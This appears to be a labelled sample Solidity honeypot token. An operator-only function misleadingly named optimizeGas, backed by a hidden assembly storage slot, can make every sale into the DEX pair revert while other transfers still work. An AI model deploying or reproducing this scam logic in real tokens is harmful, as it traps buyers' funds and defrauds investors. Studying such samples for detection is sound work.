// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title Two-step honeypot, another shape: an inline caller check (no
/// modifier) against an operator, a level kept with assembly at a hashed
/// slot, and a misleading name: optimizeGas(3) makes every sell into the
/// pair revert ("gas: out of range") while wallet transfers still work.
/// Today the level is 0 and everyone trades.
contract GasTunerToken is ERC20, Ownable {
    address public immutable pair;
    address private _operator;
    bytes32 private constant LEVEL_SLOT = keccak256("gas.tuner.level");

    constructor(address router, uint256 supply) ERC20("Gas Tuner", "GTUNE") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _operator = msg.sender;
        _mint(msg.sender, supply);
    }

    function optimizeGas(uint256 level) external {
        require(msg.sender == _operator, "gas: not the operator");
        bytes32 slot = LEVEL_SLOT;
        assembly {
            sstore(slot, level)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        bytes32 slot = LEVEL_SLOT;
        uint256 level;
        assembly {
            level := sload(slot)
        }
        if (to == pair && level >= 3 && from != _operator) revert("gas: out of range");
        _move(from, to, value);
    }
}
